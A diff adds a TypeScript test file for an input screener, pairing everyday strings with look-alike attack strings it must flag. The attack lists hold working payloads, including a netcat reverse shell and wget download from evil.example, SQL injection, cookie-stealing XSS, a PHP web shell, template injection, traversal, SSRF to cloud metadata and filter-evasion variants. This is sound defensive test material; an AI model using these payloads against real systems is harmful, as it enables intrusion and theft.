@@ -1,0 +1,146 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+
+import { screen } from "../src/index.ts";
+
+/** Kinds of everyday text, and what an attacker writes with the same signs. */
+const families: Readonly<Record<string, { readonly innocent: readonly string[]; readonly attacks: readonly string[] }>> = {
+  "couples of words": {
+    innocent: ["copy & paste", "date & time", "head & tail", "search & find", "id | name | date"],
+    attacks: ["x & whoami", "8.8.8.8 && cat /etc/passwd", "x | id", "1; sleep 9"],
+  },
+  "names of software": {
+    innocent: ["Java & Python", "HTML, CSS & PHP", "Kubernetes & Docker", "Skills: SQL; Python; Docker", "Compare MySQL & PHP"],
+    attacks: ["x & python -c 'import os'", "a; php -r 'phpinfo();'", "a; perl -e 'exec \"id\"'"],
+  },
+  "lists of software, line by line": {
+    innocent: ["Languages\nPython\nRuby\nGo", "Requirements:\nPython 3.11 or newer\nNode 20", "Task:\n\nPython function that sorts a list"],
+    attacks: ["x\npython -c 'import os'", "x\ncat /etc/passwd", "x\r\nwget http://evil.example/a.sh"],
+  },
+  "instructions for a page": {
+    innocent: ['Click "Settings" and select "Profile".', "Open `File` and select `Save`", "Fetch data from `/session` and select keys."],
+    attacks: ['x" and (select 1)=1 --', "x' and select password from users --"],
+  },
+  committees: {
+    innocent: ["Health and Safety (Select Committee)", "Science and Technology (Select)"],
+    attacks: ["1 and (select 1 from dual)=1", "x' and (select count(*) from users) > 0 --"],
+  },
+  "quantities with having": {
+    innocent: ["a number having 3 digits or more", "a class having 25 students and 2 teachers", "Is having 2 dogs and 1 cat too much?"],
+    attacks: ["1' having 1=1 --", "1 group by id having 1=1 --"],
+  },
+  comparisons: {
+    innocent: ["Is 2 > 1 and 3 > 2?", "x = 1 or x = 2", 'necklace length 16" or 18"', 'screws 2" and 3"'],
+    attacks: ["1 or 2 > 1 --", "x' or 1=1 --", '" or "1"="1'],
+  },
+  "quoted exclamations": {
+    innocent: ['Translate: "Help!"', 'He said: "Stop!"', 'Title: "Oklahoma!"'],
+    attacks: ["'='", "' or 'a'='a", "x'!='y"],
+  },
+  "tags that are named": {
+    innocent: ["Add it before </body>", "Do I need </script> at the end?", "It goes before the closing </html> tag."],
+    attacks: ["</script><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>"],
+  },
+  "pages that are pasted": {
+    innocent: [
+      "Extract the text.\n\n<html><body><p>One</p></body></html>",
+      'Review this form: <form method="post" action="/login"><input name="user"><button>Log in</button></form>',
+    ],
+    attacks: [
+      "Extract the text.\n\n<img src=x onerror=alert(document.cookie)>",
+      '<form action="javascript:alert(1)"><button>Log in</button></form>',
+    ],
+  },
+  "scripts that are pasted": {
+    innocent: ["Print this array.\n\n<?php\n$a = [1, 2];\n?>", "What does this do?\n\nfind . -name '*.log' | sort | head -n 10"],
+    attacks: ["<?php system($_GET['c']); ?>", "a.log | nc evil.example 4444 -e /bin/sh"],
+  },
+  "transcripts and letters with CRLF": {
+    innocent: [
+      "Ann: hi\r\nBob: hello\r\nAnn: are you coming?",
+      "Dear Ms Lee,\r\n\r\nI would like to reschedule.\r\nReason: illness\r\nBest,\r\nTom",
+      "Event details:\nTitle: Summer party\nLocation: Room 5, second floor\nTime: 17:00",
+    ],
+    attacks: ["x\r\nSet-Cookie: admin=1", "x\r\nLocation: http://evil.example/", "x\r\n\r\n<script>alert(1)</script>"],
+  },
+  "lines that look like mail commands": {
+    innocent: [
+      "Planes on order:\nA380 superjumbo\nA350 widebody\nB787 widebody\nWhich has the longest range?",
+      "COBOL question:\nIDENTIFICATION DIVISION.\nPROGRAM-ID. HELLO.\nDATA DIVISION.\nWORKING-STORAGE SECTION.\nWhat goes there?",
+    ],
+    attacks: ["x\r\nRCPT TO: <victim@example.org>\r\nDATA\r\nspam", "x\r\nQUIT\r\nMAIL FROM: <a@b.example>\r\n"],
+  },
+  "sums in reasoning": {
+    innocent: ["Corey is 10+1 = <<10+1=11>>11 years old.", "He has 5*2 = <<5*2=10>>10 apples.\n#### 10"],
+    attacks: ["x <<< $(id)", "x; cat <<< $(whoami)"],
+  },
+  entities: {
+    innocent: ["&copy 2026", "&nbsp; &amp; &copy;"],
+    attacks: ["&lt;script&gt;alert(1)&lt;/script&gt;", "1&copy c:\\boot.ini x"],
+  },
+  "statistics in parentheses": {
+    innocent: ["The groups differed (n=42) (mean=5.1).", "Results: (n=12) (sd=1.3)"],
+    attacks: ["*)(uid=*))(|(uid=*", "admin)(&(password=*))"],
+  },
+  "settings with paths": {
+    innocent: ["secrets in docker compose: password: /run/secrets/db_password does not work, why?", "key: /etc/ssl/private/site.key"],
+    attacks: ["password[$ne]=1", "{password: {$gt: ''}}"],
+  },
+  "subqueries that are asked about": {
+    innocent: ["How do I delete duplicates? I tried DELETE FROM t WHERE id NOT IN (SELECT MIN(id) FROM t GROUP BY email); but it is slow."],
+    attacks: ["1 and id not in (select min(id) from users) --", "x' union select min(id) from users --"],
+  },
+  "templates that are asked about": {
+    innocent: ["In Ansible, {{ groups['web'] | map('extract', hostvars, 'ip') | list }} fails. Why?"],
+    attacks: ["{{7*7}}", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"],
+  },
+  "variables that are asked about": {
+    innocent: ["How does $IFS work in bash?", "Explain this.constructor.prototype versus __proto__ in JavaScript."],
+    attacks: ["x;cat$IFS/etc/passwd", '{"__proto__": {"admin": true}}'],
+  },
+  "addresses that are asked about": {
+    innocent: ["What is the address 169.254.169.254 used for in AWS?"],
+    attacks: ["http://169.254.169.254/latest/meta-data/iam/"],
+  },
+  "names with signs": {
+    innocent: ["D'Arcy & Sons; Ltd.", "AT&T or R&D?", "I <3 you", "a > b"],
+    attacks: ["D'or 1=1;--", "AT&T & whoami"],
+  },
+};
+
+/** What of the kinds of attack that slipped through works, or is a usable probe. */
+const probes: Readonly<Record<string, readonly string[]>> = {
+  sqli: [
+    "x') on duplicate key update a=1 --",
+    "x' and data #>> '{a,b}' = '1' --",
+    "1' into outfile '/var/www/x.php' --",
+    "a'collate nocase--",
+  ],
+  xss: ["<scrscriptipt>alert(1)</scrscriptipt>", '\\"><img src=x onerror=alert(1)>', '"autofocus onfocus=alert(1) x="'],
+  cmdi: ["x;{l,-lh}s", 'x;""p""y""t""h""o""n -c 1', "sh <<< id", "x;who$(echo am)i", "x;a=/etc&&cat $a/passwd"],
+  php: ["$a['x']($b)", "$$b(2)", "Foo::$x()"],
+  "node-dos": ["while(!null){}", "while(-Infinity){}", "while(true){}"],
+  ssti: ["%}{(61+70)*46}{%1", "{% import os %}{{os.popen('id').read()}}"],
+  traversal: ["/..//..//..//etc/passwd", "..\\/..\\/etc/passwd", "....//....//etc/passwd", "%uF025..%uF025etc/passwd"],
+  nosql: ["1; return this.a != '", "true, $where: '1 == 1'"],
+  ssrf: ["http://[::ffff:127.0.0.1]/", "http://127。0。0。1/", "http://example.org@127.0.0.1/"],
+};
+
+describe("everyday texts pass", () => {
+  for (const [family, { innocent }] of Object.entries(families)) {
+    for (const text of innocent) test(`${family}: ${JSON.stringify(text)}`, () => assert.deepEqual(screen(text, { profile: "prose" }), []));
+  }
+});
+
+describe("attacks with the same signs are caught", () => {
+  for (const [family, { attacks }] of Object.entries(families)) {
+    for (const text of attacks)
+      test(`${family}: ${JSON.stringify(text)}`, () => assert.notDeepEqual(screen(text, { profile: "prose" }), []));
+  }
+});
+
+describe("attacks in unusual spelling are caught", () => {
+  for (const [kind, attacks] of Object.entries(probes)) {
+    for (const text of attacks) test(`${kind}: ${JSON.stringify(text)}`, () => assert.notDeepEqual(screen(text, { profile: "prose" }), []));
+  }
+});
